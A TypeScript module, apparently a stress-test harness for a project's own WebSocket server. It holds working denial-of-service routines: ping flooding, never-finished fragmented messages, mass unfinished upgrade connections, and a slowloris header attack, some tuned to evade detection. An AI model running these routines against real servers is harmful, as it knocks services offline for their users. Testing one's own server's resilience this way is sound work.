import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setImmediate, setTimeout as sleep } from 'node:timers/promises';
import { SOCKET_PATH } from '@countermine/play/protocol/envelope.ts';
import { WebSocket } from 'ws';
import type { Answers, RawSocket } from './raw-socket.ts';

// Attacks below the messages: by frames, handshakes and connections.

/** At once, between two looks at what came back. */
const PINGS = 500;
/** Of a message: just below what makes the server end the connection at once. */
const PARTS = 16_000;
const OPENERS = 50;
/** Connections that stay open. */
const MAX_OPEN = 20_000;
const SLOW_CONNECTIONS = 3000;

/** Connects, and again whenever it is thrown out. */
async function connected(socket: RawSocket): Promise<WebSocket> {
  for (;;) {
    const open = await socket.connect();
    if (open.readyState === WebSocket.OPEN) return open;
    await sleep(200);
  }
}

export async function pingForever(socket: RawSocket): Promise<never> {
  for (;;) {
    const open = await connected(socket);
    while (open.readyState === WebSocket.OPEN) {
      if (open.bufferedAmount < 1_000_000) for (let ping = 0; ping < PINGS; ping += 1) open.ping();
      await setImmediate();
    }
  }
}

/** Sends messages a letter at a time, which never end, and keeps the connection. */
export async function endlessMessages(socket: RawSocket): Promise<never> {
  for (;;) {
    const open = await connected(socket);
    for (let part = 0; part < PARTS && open.readyState === WebSocket.OPEN; part += 1) {
      open.send('[', { fin: false });
      // A part in each packet, so that the server keeps each for itself.
      if (part % 20 === 0) await setImmediate();
    }
    while (open.readyState === WebSocket.OPEN) await sleep(100);
  }
}

/** Opens WebSockets without ever ending one. */
export async function openForever(address: string, localAddress: string, answers: Answers): Promise<void> {
  const key = randomBytes(16).toString('base64');
  const upgrade = [
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    `Sec-WebSocket-Key: ${key}`,
  ];
  const request = `GET ${SOCKET_PATH} HTTP/1.1\r\nHost: here\r\n${upgrade.join('\r\n')}\r\n\r\n`;
  let open = 0;
  const openOnes = async (): Promise<void> => {
    for (;;) {
      if (open >= MAX_OPEN) await sleep(100);
      open += 1;
      const socket = connectFrom(address, localAddress);
      socket.once('close', () => {
        open -= 1;
      });
      socket.write(request);
      const [data] = await Promise.race([once(socket, 'data'), once(socket, 'close').then(() => ['gone'])]).catch(
        () => ['gone'],
      );
      answers.add(String(data).slice(0, 12));
      // Read, as whoever does not is noticed.
      socket.resume();
    }
  };
  await Promise.all(Array.from({ length: OPENERS }, openOnes));
}

/** Begins requests that never end. */
export async function slowHeaders(address: string, localAddress: string, answers: Answers): Promise<void> {
  await Promise.all(
    Array.from({ length: SLOW_CONNECTIONS }, async (_, number) => {
      await sleep(number);
      for (;;) {
        const socket = connectFrom(address, localAddress);
        let isOpen = true;
        socket.once('close', () => {
          isOpen = false;
          answers.add('closed');
        });
        socket.write('GET / HTTP/1.1\r\nHost: here\r\nX-A: ');
        while (isOpen) {
          await sleep(2000);
          socket.write('a');
        }
        await sleep(1000);
      }
    }),
  );
}

function connectFrom(address: string, localAddress: string): Socket {
  const { hostname, port } = new URL(address);
  return connect({ host: hostname, port: Number(port), localAddress }).on('error', () => undefined);
}
